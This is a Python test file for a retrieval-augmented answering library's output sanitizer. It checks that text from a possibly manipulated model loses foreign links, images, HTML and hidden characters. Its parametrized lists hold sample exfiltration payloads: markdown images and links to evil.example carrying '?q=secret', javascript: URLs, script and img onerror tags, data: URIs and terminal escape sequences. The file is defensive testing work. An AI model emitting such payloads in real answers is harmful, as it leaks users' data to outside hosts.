"""What a fooled model writes is harmless: no foreign link, image or HTML, nothing hidden."""

from __future__ import annotations

import time

import pytest

from ragkit.citation import verify
from ragkit.nouns import Chunk
from ragkit.safe import Sources, make_safe
from ragkit.structured import AnswerDraft, Parsed, Quote, Statement

SOURCE = "Prices: see https://docs.example/prices. Load ![logo](https://docs.example/logo.png) or <b>bold</b> text."
KNOWN = Sources([SOURCE], [SOURCE], "quoted")


@pytest.mark.parametrize(
    "attack",
    [
        "![x](https://evil.example/?q=secret)",
        "![x]( https://evil.example/?q=secret 'title')",
        "![logo](https://docs.example/logo.png)",
        "[click](https://evil.example/?q=secret)",
        "[click](//evil.example/secret)",
        "[click](https:evil.example/secret)",
        "[click](https&#58;&#47;&#47;evil.example/secret)",
        "[click](javascript:alert(1))",
        "[![x](https://evil.example/a)](https&#58;//evil.example/secret)",
        "![x][1]\n\n[1]: https://evil.example/?q=secret",
        "[x][1]\n[1]: evil.example",
        "<https://evil.example/secret>",
        '<img src="https://evil.example/secret">',
        '<img src="https://docs.example/logo.png" onerror=alert(1)>',
        "<img src=https://evil.example/secret",
        "<script>alert(1)</script>",
        '<a href="//evil.example/secret">click</a>',
        "<!-- evil -->",
        "https://evil.example/?q=secret",
        "HTTPS://EVIL.EXAMPLE/?q=secret",
        "www.evil.example/secret",
        "evil.example/secret",
        "https://docs.example/prices?q=secret",
        "https://docs.example/price",
        "data:text/html;base64,secret",
        r"\\evil.example\secret",
        "mailto:evil@evil.example",
    ],
)
def test_what_could_fetch_or_run_is_gone(attack: str) -> None:
    shown = make_safe(f"Before {attack} after", KNOWN)
    for trace in ("evil", "secret", "](", "<", "javascript", "price?", "logo.png", "base64"):
        assert trace not in shown.casefold()
    assert shown.startswith("Before")


@pytest.mark.parametrize(
    "harmless",
    [
        "See https://docs.example/prices.",
        "[prices](https://docs.example/prices)",
        "<b>bold</b>",
        "a < b and b > c",
        "x <= 3, 1/2, and/or, 10:30, C:\\temp, key: value",
        "ragkit.toml and docs.example are names",
        "Use `list[int]` (see below).",
        "e.g. this, i.e. that...",
    ],
)
def test_what_the_sources_have_and_plain_text_stay(harmless: str) -> None:
    assert make_safe(harmless, KNOWN) == harmless


@pytest.mark.parametrize(
    "hidden", ["\x1b[31m", "\x1b]8;;https://evil.example\x07", "\u202e", "\U000e0041", "\u200b", "\x00"]
)
def test_hidden_characters_are_gone(hidden: str) -> None:
    assert make_safe(f"one {hidden}two", Sources()) == "one two"


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("See https://docs.example/prices.", "See [link: see the source]."),
        ("[prices](https://docs.example/prices)", "prices"),
        ("See <https://docs.example/prices>", "See"),
        ("See https://docs.example/prices/more", "See [link removed]"),
    ],
)
def test_without_leave_no_link_is_shown_not_even_one_of_the_source(text: str, shown: str) -> None:
    source = f"{SOURCE} <https://docs.example/prices> [prices](https://docs.example/prices)"
    assert make_safe(text, Sources([source], [source])) == shown


@pytest.mark.parametrize("target", ["https&#58;//evil.example/x", "//evil.example", "https://evil.example/x", "a%3Ab"])
def test_a_link_that_only_stands_around_the_quote_goes(target: str) -> None:
    source = f"Click [here]({target}) or <a href='{target}'>there</a>."
    shown = make_safe(f"[here]({target}) <a href='{target}'>there", Sources([source], (), "quoted"))
    assert shown == "here there"
    assert make_safe("[here](guide/a.md#b)", Sources(["[here](guide/a.md#b)"])) == "[here](guide/a.md#b)"


def test_links_of_a_document_that_is_not_cited_do_not_count() -> None:
    cited = Chunk("a", "d", "a.md", "Paris is the capital.", 0, 21, 0, 5)
    other = Chunk("b", "d", "b.md", "Go to https://evil.example/?q=1 now.", 0, 36, 0, 5)
    quote = Quote(chunk_id="1", quote="Paris is the capital.")
    statement = Statement(text="Paris, see https://evil.example/?q=1", quotes=(quote,))
    verified = verify(Parsed(AnswerDraft(abstained=False, reason="", statements=(statement,))), [cited, other])
    assert verified.text == "Paris, see [link removed] [1]"


@pytest.mark.parametrize(
    "piece", ["[", "![", "[a](", "[a]((", "<", "a.", "www.", "http:", "\x1b[", "\x1b]", "a-", "//", " [1"]
)
def test_hostile_repetition_takes_no_time(piece: str) -> None:
    text = piece * 10_000
    began = time.process_time()
    make_safe(text, Sources([text]))
    assert time.process_time() - began < 2
